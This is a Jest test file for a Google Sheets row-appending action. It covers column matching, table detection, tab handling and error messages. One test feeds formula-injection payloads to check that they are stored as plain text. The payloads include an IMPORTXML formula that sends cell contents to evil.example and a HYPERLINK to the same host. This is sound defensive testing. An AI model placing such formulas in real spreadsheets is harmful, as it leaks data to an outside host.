import { describe, expect, it } from "@jest/globals";
import { googleSheets } from "../../actions/google-sheets.ts";
import { ConfigError } from "../../src/core/errors.ts";
import { failureOf } from "../run/outbound-destination.ts";
import { mapped } from "./bench.ts";
import { ID, insert, useSheetBench } from "./sheet-bench.ts";

const at = useSheetBench();

describe("appending", () => {
  it("writes under the columns' names and tells where", async () => {
    expect(await at.append({ Score: 82, Candidate: "Ada" })).toEqual({
      spreadsheet: ID,
      tab: "Candidates",
      row: 2,
      link: `https://docs.google.com/spreadsheets/d/${ID}/edit#gid=0&range=2:2`,
    });
    expect(await at.append({ candidate: "Bo", " Email ": "bo@example.com" })).toMatchObject({ row: 3 });
    expect(at.rows().slice(1)).toEqual([
      ["", "Ada", "", 82],
      ["", "Bo", "bo@example.com"],
    ]);
  });

  it("takes one look and one change for a row once it knows the tab", async () => {
    await at.append({ Candidate: "Ada" });
    const before = at.driver.calls.length;
    await at.append({ Candidate: "Bo" });
    await at.append({ Candidate: "Cy" });
    expect(at.driver.calls.slice(before)).toHaveLength(4);
  });

  it("stores hostile text as text, whatever it looks like", async () => {
    const hostile = [
      '=IMPORTXML("http://evil.example/?"&A1)',
      "+1",
      "-1",
      "@SUM(A1)",
      "\t=1",
      "'=1",
      "007",
      "2026-05-02",
    ];
    for (const name of hostile) {
      const input = { spreadsheet: ID, values: { Candidate: "{% name %}", Score: "{% score %}" } };
      await at.driver.run("append_row", await mapped(googleSheets, "append_row", input, { name, score: 82 }));
    }
    for (const [index, name] of hostile.entries()) {
      expect(at.cell(`Candidates!B${index + 2}`)).toEqual({ kind: "text", value: name });
      expect(at.cell(`Candidates!D${index + 2}`)).toEqual({ kind: "number", value: 82 });
    }
  });

  it("keeps types and leaves empty values alone", async () => {
    await at.append({ Candidate: true, Email: null, Score: 82.5, Job: "" });
    expect(["B2", "C2", "D2", "E2"].map((one) => at.cell(`Candidates!${one}`).kind)).toEqual([
      "bool",
      "blank",
      "number",
      "blank",
    ]);
  });

  it("marks text for Excel when asked", async () => {
    await at.append({ Candidate: "=1+1", Job: "Engineer" }, { csv_safe: true });
    expect(at.cell("Candidates!B2")).toEqual({ kind: "text", value: "'=1+1" });
    expect(at.cell("Candidates!E2")).toEqual({ kind: "text", value: "Engineer" });
  });

  it("enters values as a person would, but never a formula", async () => {
    const values = {
      Candidate: '=HYPERLINK("http://evil.example")',
      Score: "82",
      "Scored at": "2026-05-02",
      Job: "+1",
    };
    await at.append(values, { value_input: "user_entered" });
    expect(at.cell("Candidates!B2")).toMatchObject({ kind: "text" });
    expect(at.cell("Candidates!E2")).toMatchObject({ kind: "text" });
    expect(at.cell("Candidates!D2")).toEqual({ kind: "number", value: 82 });
    expect(at.cell("Candidates!G2").kind).toBe("number");
  });

  it("finds the table wherever it stands", async () => {
    const blank = ["", "", ""];
    const id = at.sheet([
      {
        name: "Plan",
        rows: [
          ["Hiring 2026"],
          [],
          blank,
          blank,
          blank,
          [...blank, "Name", "", "Score"],
          [...blank, "Ada", "x", 1],
          [...blank, "Bo", "y", 2],
        ],
      },
    ]);
    expect(await at.append({ Name: "Cy", Score: 3 }, { spreadsheet: id })).toMatchObject({ row: 9 });
    expect(at.rows("Plan", id)[8]).toEqual([...blank, "Cy", "", 3]);
    expect(await at.append({ Name: "Di", Score: 4 }, { spreadsheet: id })).toMatchObject({ row: 10 });
  });

  it("goes on above rows prepared with checkboxes and formulas, and moves down what stands below", async () => {
    const id = at.sheet([
      {
        name: "List",
        rows: [
          ["Name", "Seen", "Rank"],
          ["Ada", true, "=ROW()"],
          ["", false, "=ROW()"],
          ["", false, "=ROW()"],
          ["", "", ""],
          ["", "note", ""],
        ],
      },
    ]);
    expect(await at.append({ Name: "Bo" }, { spreadsheet: id })).toMatchObject({ row: 3 });
    expect(at.rows("List", id).map((row) => row[0] ?? "")).toEqual(["Name", "Ada", "Bo", "", "", "", ""]);
    expect(at.rows("List", id)[6]?.[1]).toBe("note");
  });

  it("goes on where a full grid ends", async () => {
    const id = at.sheet([{ name: "Small", rows: [["Name"], ["Ada"]], rowCount: 2, columnCount: 1 }]);
    expect(await at.append({ Name: "Bo" }, { spreadsheet: id })).toMatchObject({ row: 3 });
    expect(await at.append({ Name: "Cy" }, { spreadsheet: id })).toMatchObject({ row: 4 });
    expect(at.rows("Small", id)).toEqual([["Name"], ["Ada"], ["Bo"], ["Cy"]]);
  });

  it("finds the end of a long table, also after rows were deleted", async () => {
    const many = Array.from({ length: 5_000 }, (_, index) => [`c${index}`]);
    const id = at.sheet([{ name: "Long", rows: [["Name"], ...many], rowCount: 20_000 }]);
    expect(await at.append({ Name: "Ada" }, { spreadsheet: id })).toMatchObject({ row: 5_002 });
    const range = { sheetId: 0, dimension: "ROWS", startIndex: 1_000, endIndex: 5_002 };
    await at.change(id, { deleteDimension: { range } });
    expect(await at.append({ Name: "Bo" }, { spreadsheet: id })).toMatchObject({ row: 1_001 });
  });

  it("follows columns that were moved, and names that moved to another row", async () => {
    await at.append({ Candidate: "Ada", Score: 1 });
    await at.change(ID, insert("COLUMNS", 1), insert("ROWS", 0, 2));
    await at.append({ Candidate: "Bo", Score: 2 });
    expect(at.rows().slice(3)).toEqual([
      ["", "", "Ada", "", 1],
      ["", "", "Bo", "", 2],
    ]);
  });

  it("takes the tab from the pasted address, by name, or the first", async () => {
    const id = at.sheet([
      { name: "One", rows: [["Name"]] },
      { name: "Jane's tab", rows: [["Name"]], sheetId: 815 },
    ]);
    const address = `https://docs.google.com/spreadsheets/d/${id}/edit?gid=815#gid=815`;
    expect(await at.append({ Name: "a" }, { spreadsheet: address })).toMatchObject({ tab: "Jane's tab" });
    expect(await at.append({ Name: "b" }, { spreadsheet: address, tab: "one" })).toMatchObject({
      tab: "One",
    });
    expect(await at.append({ Name: "c" }, { spreadsheet: id })).toMatchObject({ tab: "One" });
  });

  it("notices a renamed and a replaced tab", async () => {
    await at.append({ Candidate: "Ada" }, { tab: "Candidates" });
    const heading = { userEnteredValue: { stringValue: "Candidate" } };
    await at.change(
      ID,
      { updateSheetProperties: { properties: { sheetId: 0, title: "Old" }, fields: "title" } },
      { addSheet: { properties: { title: "Candidates", sheetId: 4711 } } },
      {
        updateCells: { start: { sheetId: 4711 }, rows: [{ values: [heading] }], fields: "userEnteredValue" },
      },
    );
    expect(await at.append({ Candidate: "Bo" }, { tab: "Candidates" })).toMatchObject({ row: 2 });
    expect(at.rows("Candidates")).toEqual([["Candidate"], ["Bo"]]);
    const gone = await failureOf(at.append({ Candidate: "Bo" }, { tab: "Nowhere" }));
    expect(gone.message).toBe(
      'The spreadsheet "Hiring pipeline" does not have a tab "Nowhere". Its tabs are: Old, Candidates.',
    );
  });
});

describe("missing columns", () => {
  it("hold the run, with the columns that there are", async () => {
    const error = await failureOf(at.append({ Name: "Ada", Score: 1, Phone: "1" }));
    expect(error).toBeInstanceOf(ConfigError);
    expect(error).toMatchObject({ code: "missing_column" });
    expect(error.message).toContain('The tab "Candidates" has no column "Name", "Phone".');
    expect(error.message).toContain("Event key, Candidate, Email, Score");
    expect(at.count()).toBe(0);
  });

  it("are added when asked, beyond the grid too", async () => {
    const id = at.sheet([{ name: "Small", rows: [["Name"]], rowCount: 10, columnCount: 1 }]);
    const input = { spreadsheet: id, missing_columns: "add" };
    await at.append({ Name: "Ada", Score: 1, Job: "Engineer" }, input);
    await at.append({ Job: "Designer", Name: "Bo" }, input);
    expect(at.rows("Small", id)).toEqual([
      ["Name", "Score", "Job"],
      ["Ada", 1, "Engineer"],
      ["Bo", "", "Designer"],
    ]);
  });

  it("of an empty tab are its first row", async () => {
    const id = at.sheet([{ name: "Empty", rows: [] }]);
    const refused = await failureOf(at.append({ Name: "Ada" }, { spreadsheet: id }));
    expect(refused.message).toContain("has no column names yet");
    await at.append({ Name: "Ada" }, { spreadsheet: id, missing_columns: "add" });
    expect(at.rows("Empty", id)).toEqual([["Name"], ["Ada"]]);
  });

  it("are looked for in the row that the owner names", async () => {
    const id = at.sheet([{ name: "Two", rows: [["Name"], ["Score", "Name"], [1, "Ada"]] }]);
    expect(await at.append({ Name: "Bo" }, { spreadsheet: id, header_row: 2 })).toMatchObject({ row: 4 });
    expect(at.rows("Two", id)[3]).toEqual(["", "Bo"]);
  });

  it("that stand twice are not guessed at", async () => {
    const id = at.sheet([{ name: "Twice", rows: [["Email", "Name", "", "", "", "Email"]] }]);
    const error = await failureOf(at.append({ Email: "a@example.com" }, { spreadsheet: id }));
    expect(error).toMatchObject({ code: "duplicate_column" });
    expect(error.message).toContain('two columns called "Email" (A and F)');
    await at.append({ Name: "Ada" }, { spreadsheet: id });
    expect(at.rows("Twice", id)[1]).toEqual(["", "Ada"]);
  });
});
